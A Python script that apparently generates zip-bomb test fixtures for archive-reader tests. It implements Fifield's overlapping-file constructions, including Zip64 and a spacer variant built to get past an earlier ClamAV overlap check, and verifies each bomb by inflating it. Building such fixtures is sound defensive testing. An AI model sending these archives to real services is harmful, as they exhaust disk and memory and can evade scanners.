#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""bombs.py OUTDIR - write zip bombs for the tests, after David Fifield's
"A better zip bomb" (WOOT 2019), into OUTDIR, with OUTDIR/bombs.json.

  bomb-none.zip        no overlap: files that are each one maximum-ratio
                       DEFLATE stream (zlib level 9 of zeros), ~1030:1
  bomb-full.zip        full overlap: every central record points at one
                       local header and kernel (the names disagree)
  bomb-quoted.zip      quoted overlap: each file's data starts with a stored
                       DEFLATE block quoting the next local header, then runs
                       on into the shared kernel; names, CRCs, sizes correct
  bomb-extra.zip       extra-field quoting: each local header's extra field
                       encloses all the following local headers
  bomb-spacers.zip     quoted overlap with ordinary files between the bomb
                       files in the central directory, so that no two
                       neighbours there overlap
  bomb-zip64.zip       quoted overlap with Zip64 extras in local and central
                       headers, a kernel over 4 GiB, Zip64 end records
  bomb-quoted-big.zip  quoted overlap, 10,000 files, terabytes declared

Written from the description of the constructions (security.md section 1),
not from Fifield's code.  Two things make generation fast whatever the
declared size:
  - the kernel is built by hand rather than by zlib: one dynamic-Huffman
    block whose length-258 code and distance-1 code are one bit each, both
    zero, so each 258 output bytes cost two zero bits (the 1032:1 limit) and
    the body of the kernel is a run of zero bytes;
  - CRC-32 is linear, so the CRC of A+B comes from crc(A), crc(B) and len(B)
    (operator tables for 2^k zero bytes), as does the CRC of n zero bytes.
Every entry is checked here by inflating it with zlib: in full (length,
CRC, end of stream) when its output is moderate, else its first megabytes
against the bytes it must hold.

bombs.json: for each archive, its file size, entry count, declared total
uncompressed size, how many entries are bomb files (the rest are spacers,
named spacer-*), and whether the bomb files overlap.
"""
import json
import os
import struct
import sys
import zlib

SIG_LOCAL, SIG_CENTRAL, SIG_EOCD = 0x04034B50, 0x02014B50, 0x06054B50
SIG_Z64_EOCD, SIG_Z64_LOC = 0x06064B50, 0x07064B50
DOS_DATE, DOS_TIME = (2019 - 1980) << 9 | 8 << 5 | 14, 12 << 11
EXTRA_QUOTE_ID = 0x4D42  # an extra-field ID nobody assigns meaning to
FULL_CHECK_MAX = 256 << 20  # inflate entries up to this size in full
HEAD_CHECK = 1 << 20        # else this much past the quoted headers

# ---- CRC-32 arithmetic -----------------------------------------------------

POLY = 0xEDB88320


def _zero_byte(v):
    """The raw CRC register after one zero byte (no pre/post inversion)."""
    for _ in range(8):
        v = (v >> 1) ^ (POLY if v & 1 else 0)
    return v


def _tables(cols):
    """Byte-indexed tables of the GF(2) operator whose column j is cols[j],
    so applying it is four look-ups."""
    tabs = []
    for b in range(4):
        t = [0] * 256
        for x in range(1, 256):
            low = x & -x
            t[x] = t[x ^ low] ^ cols[8 * b + low.bit_length() - 1]
        tabs.append(t)
    return tabs


def _apply(t, v):
    return t[0][v & 255] ^ t[1][v >> 8 & 255] ^ t[2][v >> 16 & 255] ^ t[3][v >> 24]


# _POW[k]: the register after 2^k zero bytes, for k up to 2^50 bytes
_POW = []
_cols = [_zero_byte(1 << j) for j in range(32)]
for _k in range(51):
    _POW.append(_tables(_cols))
    _cols = [_apply(_POW[-1], c) for c in _cols]


def crc_shift(v, n):
    """The raw register v after n zero bytes."""
    k = 0
    while n:
        if n & 1:
            v = _apply(_POW[k], v)
        n >>= 1
        k += 1
    return v


def crc_concat(crc_a, crc_b, len_b):
    """crc32(A + B) from crc32(A), crc32(B) and len(B): the inversions at
    both ends cancel, leaving crc(A) carried through len(B) zero bytes."""
    return crc_shift(crc_a, len_b) ^ crc_b


def crc_zeros(n):
    return crc_shift(0xFFFFFFFF, n) ^ 0xFFFFFFFF


def _self_test():
    a, b = os.urandom(1000), os.urandom(777)
    assert crc_concat(zlib.crc32(a), zlib.crc32(b), len(b)) == zlib.crc32(a + b)
    for n in (0, 1, 258, 100000):
        assert crc_zeros(n) == zlib.crc32(bytes(n)), n


# ---- DEFLATE -----------------------------------------------------------------

class Bits:
    """A DEFLATE bit string: fields go least significant bit first, Huffman
    codes most significant bit first (RFC 1951 3.1.1)."""

    def __init__(self):
        self.bits = []

    def field(self, value, n):
        self.bits += [(value >> k) & 1 for k in range(n)]

    def code(self, value, n):
        self.bits += [(value >> k) & 1 for k in range(n - 1, -1, -1)]


def kernel(n):
    """A DEFLATE stream of n zero bytes at the 1032:1 limit, in one final
    dynamic block.  Literal/length code: 285 (length 258) '0', literal 0
    '10', end of block '11'; distance code: 0 (distance 1) '0', 1 '1' (both
    codes complete, which every inflater accepts).  A literal zero, then
    (n-1)//258 copies of (258, distance 1), two zero bits each, then the
    remainder as literals."""
    assert n >= 1
    matches, rest = divmod(n - 1, 258)
    head = Bits()
    head.field(1, 1)   # BFINAL
    head.field(2, 2)   # BTYPE: dynamic Huffman
    head.field(286 - 257, 5)  # HLIT: literal/length lengths 0..285
    head.field(2 - 1, 5)      # HDIST: distance lengths 0..1
    head.field(18 - 4, 4)     # HCLEN: code length code lengths given
    # code length code: 18 (run of zeros) '0', 1 '10', 2 '11'
    cl_lengths = {18: 1, 1: 2, 2: 2}
    for sym in (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1):
        head.field(cl_lengths.get(sym, 0), 3)
    cl_code = {18: (0, 1), 1: (2, 2), 2: (3, 2)}

    def zeros(count):  # symbol 18: 11 + 7 extra bits zeros
        head.code(*cl_code[18])
        head.field(count - 11, 7)

    head.code(*cl_code[2])      # literal 0: length 2
    zeros(138)
    zeros(117)                  # literals 1..255: unused
    head.code(*cl_code[2])      # 256 (end of block): length 2
    zeros(28)                   # 257..284: unused
    head.code(*cl_code[1])      # 285: length 1
    head.code(*cl_code[1])      # distance code 0: length 1
    head.code(*cl_code[1])      # distance code 1: length 1
    head.code(2, 2)             # the first byte, a literal zero
    tail = Bits()
    for _ in range(rest):
        tail.code(2, 2)
    tail.code(3, 2)             # end of block
    start = len(head.bits) + 2 * matches
    out = bytearray((start + len(tail.bits) + 7) // 8)
    for pos, bit in enumerate(head.bits):
        out[pos >> 3] |= bit << (pos & 7)
    for pos, bit in enumerate(tail.bits, start):
        out[pos >> 3] |= bit << (pos & 7)
    return bytes(out)


def quote(n):
    """A non-final stored block header: the next n bytes are copied out."""
    return struct.pack("<BHH", 0, n, n ^ 0xFFFF)


# ---- headers -----------------------------------------------------------------

class Rec:
    """One central record.  expect(): the bytes its output must start with;
    the rest of its output is zero bytes."""

    def __init__(self, name, offset, crc, csize, usize, zip64=False,
                 expect=lambda: b""):
        self.name, self.offset, self.crc = name, offset, crc
        self.csize, self.usize, self.zip64 = csize, usize, zip64
        self.expect = expect


def local_header(name, crc, csize, usize, zip64=False, extra=b""):
    version = 20
    if zip64:
        extra = struct.pack("<HHQQ", 1, 16, usize, csize) + extra
        csize = usize = 0xFFFFFFFF
        version = 45
    return struct.pack("<IHHHHHIIIHH", SIG_LOCAL, version, 0, 8, DOS_TIME,
                       DOS_DATE, crc, csize, usize, len(name),
                       len(extra)) + name + extra


def central_record(r):
    csize, usize, offset, extra, version = r.csize, r.usize, r.offset, b"", 20
    if r.zip64:
        extra = struct.pack("<HHQQQ", 1, 24, usize, csize, offset)
        csize = usize = offset = 0xFFFFFFFF
        version = 45
    return struct.pack("<IHHHHHHIIIHHHHHII", SIG_CENTRAL, 0x031E, version, 0,
                       8, DOS_TIME, DOS_DATE, r.crc, csize, usize,
                       len(r.name), len(extra), 0, 0, 0, 0o100644 << 16,
                       offset) + r.name + extra


def archive(body, recs, zip64=False):
    """body (local headers and data from offset 0), then the central
    directory of recs in their order, then the end records."""
    out = bytearray(body)
    cd_off = len(out)
    for r in recs:
        out += central_record(r)
    cd_size, n = len(out) - cd_off, len(recs)
    if zip64:
        z64 = len(out)
        out += struct.pack("<IQHHIIQQQQ", SIG_Z64_EOCD, 44, 45, 45, 0, 0, n, n,
                           cd_size, cd_off)
        out += struct.pack("<IIQI", SIG_Z64_LOC, 0, z64, 1)
        n, cd_size, cd_off = 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF
    out += struct.pack("<IHHHHIIH", SIG_EOCD, 0, 0, n, n, cd_size, cd_off, 0)
    return bytes(out)


def names(n, prefix=""):
    width = len(str(n - 1))
    return [f"{prefix}{k:0{width}d}".encode() for k in range(n)]


# ---- the constructions ---------------------------------------------------------

def bomb_none(files, size):
    payload = zlib.compress(bytes(size), 9)[2:-4]  # raw DEFLATE, level 9
    crc = crc_zeros(size)
    body, recs = bytearray(), []
    for name in names(files):
        recs.append(Rec(name, len(body), crc, len(payload), size))
        body += local_header(name, crc, len(payload), size) + payload
    return archive(body, recs), recs


def bomb_full(files, size):
    data = kernel(size)
    crc = crc_zeros(size)
    body = local_header(b"kernel", crc, len(data), size) + data
    recs = [Rec(name, 0, crc, len(data), size) for name in names(files)]
    return archive(body, recs), recs


def quoted_files(file_names, size, base=0, zip64=False):
    """The body of a quoted-overlap bomb starting at offset base, and its
    records.  Built from the last file back: file i outputs the local
    headers of files i+1.. then the kernel's zeros, so its CRC and sizes
    follow from file i+1's."""
    data = kernel(size)
    n = len(file_names)
    hdr = [b""] * n
    crc, csize, usize = [0] * n, [0] * n, [0] * n
    crc[-1], csize[-1], usize[-1] = crc_zeros(size), len(data), size
    for i in range(n - 1, -1, -1):
        if i < n - 1:
            nxt = hdr[i + 1]
            csize[i] = len(quote(0)) + len(nxt) + csize[i + 1]
            usize[i] = len(nxt) + usize[i + 1]
            crc[i] = crc_concat(zlib.crc32(nxt), crc[i + 1], usize[i + 1])
        hdr[i] = local_header(file_names[i], crc[i], csize[i], usize[i], zip64)
    body, recs = bytearray(), []
    for i in range(n):
        recs.append(Rec(file_names[i], base + len(body), crc[i], csize[i],
                        usize[i], zip64, lambda i=i: b"".join(hdr[i + 1:])))
        body += hdr[i] + (quote(len(hdr[i + 1])) if i < n - 1 else data)
    return bytes(body), recs


def bomb_quoted(files, size, zip64=False):
    body, recs = quoted_files(names(files), size, zip64=zip64)
    return archive(body, recs, zip64), recs


def bomb_extra(files, size):
    """Each local header's extra field is one field of an unassigned ID
    whose data is the next local header (which holds the ones after it):
    every file's data starts after the last header, at the kernel."""
    data = kernel(size)
    crc = crc_zeros(size)
    file_names = names(files)
    hdr = local_header(file_names[-1], crc, len(data), size)
    for name in reversed(file_names[:-1]):
        extra = struct.pack("<HH", EXTRA_QUOTE_ID, len(hdr)) + hdr
        assert len(extra) <= 0xFFFF, "too many files for extra-field quoting"
        hdr = local_header(name, crc, len(data), size, extra=extra)
    recs, offset = [], 0
    for name in file_names:
        recs.append(Rec(name, offset, crc, len(data), size))
        offset += 30 + len(name) + 4
    return archive(hdr + data, recs), recs


def bomb_spacers(files, size):
    """Ordinary small files first in the archive, then the quoted bomb; in
    the central directory each spacer sits between two bomb files, so
    neighbours there never overlap (what ClamAV's first fix compared)."""
    body, spacers = bytearray(), []
    for k, name in enumerate(names(files - 1, "spacer-")):
        text = b"spacer file %d of a quoted-overlap bomb\n" % k
        payload = zlib.compress(text, 9)[2:-4]
        crc = zlib.crc32(text)
        spacers.append(Rec(name, len(body), crc, len(payload), len(text),
                           expect=lambda t=text: t))
        body += local_header(name, crc, len(payload), len(text)) + payload
    bomb, recs = quoted_files(names(files), size, base=len(body))
    order = [recs[0]]
    for s, r in zip(spacers, recs[1:]):
        order += [s, r]
    return archive(body + bomb, order), order


# ---- checks ---------------------------------------------------------------------

def span(data, r):
    """[local header, end of data) of a record, read from the archive."""
    nlen, elen = struct.unpack_from("<HH", data, r.offset + 26)
    assert struct.unpack_from("<I", data, r.offset)[0] == SIG_LOCAL
    return r.offset, r.offset + 30 + nlen + elen + r.csize


def verify(data, recs, sample=None):
    """Inflate entries as a reader without an overlap check would: all of
    them, or those at the given indices.  Full check (length, CRC, end of
    stream, nothing left over) up to FULL_CHECK_MAX bytes of output; past
    that, the first HEAD_CHECK bytes after the expected prefix."""
    for k in (range(len(recs)) if sample is None else sample):
        r = recs[k]
        start, end = span(data, r)
        src = memoryview(data)[end - r.csize:end]
        want = r.expect()
        full = r.usize <= FULL_CHECK_MAX
        limit = r.usize if full else len(want) + HEAD_CHECK
        d = zlib.decompressobj(-15)
        got, crc, pos, pending, seen = 0, 0, 0, b"", bytearray()
        while got < limit and not d.eof:
            if not pending and pos < len(src):
                pending, pos = src[pos:pos + (1 << 16)], pos + (1 << 16)
            chunk = d.decompress(pending, min(1 << 24, limit - got))
            pending = d.unconsumed_tail
            assert chunk or pending or pos < len(src) or d.eof, \
                (r.name, "stream ends early", got)
            if len(seen) < len(want):
                seen += chunk[:len(want) - len(seen)]
            crc = zlib.crc32(chunk, crc)
            got += len(chunk)
        assert bytes(seen) == want, r.name
        if full:
            assert got == r.usize and d.eof, (r.name, got, r.usize)
            assert not pending and pos >= len(src) and not d.unused_data, \
                (r.name, "data after the stream")
            assert crc == r.crc, (r.name, hex(crc), hex(r.crc))
        else:
            # past the prefix, zero bytes only
            assert got == limit, (r.name, got)
            assert crc == crc_concat(zlib.crc32(want), crc_zeros(got - len(want)),
                                     got - len(want)), r.name


def overlaps(data, recs):
    spans = sorted(span(data, r) for r in recs)
    return any(b[0] < a[1] for a, b in zip(spans, spans[1:]))


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__.split("\n\n")[0])
    outdir = sys.argv[1]
    os.makedirs(outdir, exist_ok=True)
    _self_test()
    bombs = [
        # name, (bytes, records), entries to inflate here (None: all; the
        # files of bomb-none all hold the same bytes)
        ("bomb-none.zip", bomb_none(10, 16 << 20), [0, 9]),
        ("bomb-full.zip", bomb_full(1000, 16 << 20), [0, 999]),
        ("bomb-quoted.zip", bomb_quoted(50, 2 << 20), None),
        ("bomb-extra.zip", bomb_extra(1000, 16 << 20), [0, 999]),
        ("bomb-spacers.zip", bomb_spacers(200, 16 << 20),
         list(range(1, 399, 2)) + [0, 398]),
        ("bomb-zip64.zip", bomb_quoted(100, (1 << 32) + (1 << 28), True),
         [0, 50, 99]),
        ("bomb-quoted-big.zip", bomb_quoted(10000, 1 << 28), [0, 5000, 9999]),
    ]
    meta = {}
    for name, (data, recs), sample in bombs:
        verify(data, recs, sample)
        bomb_files = [r for r in recs if not r.name.startswith(b"spacer-")]
        if name == "bomb-spacers.zip":
            # no two neighbours in the central directory overlap
            assert not any(overlaps(data, recs[k:k + 2])
                           for k in range(len(recs) - 1))
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(data)
        meta[name] = {
            "file_size": len(data),
            "entries": len(recs),
            "declared_total": sum(r.usize for r in recs),
            "bomb_entries": len(bomb_files),
            "overlapping": overlaps(data, bomb_files),
        }
    with open(os.path.join(outdir, "bombs.json"), "w") as f:
        json.dump(meta, f, indent=1)
        f.write("\n")


if __name__ == "__main__":
    main()
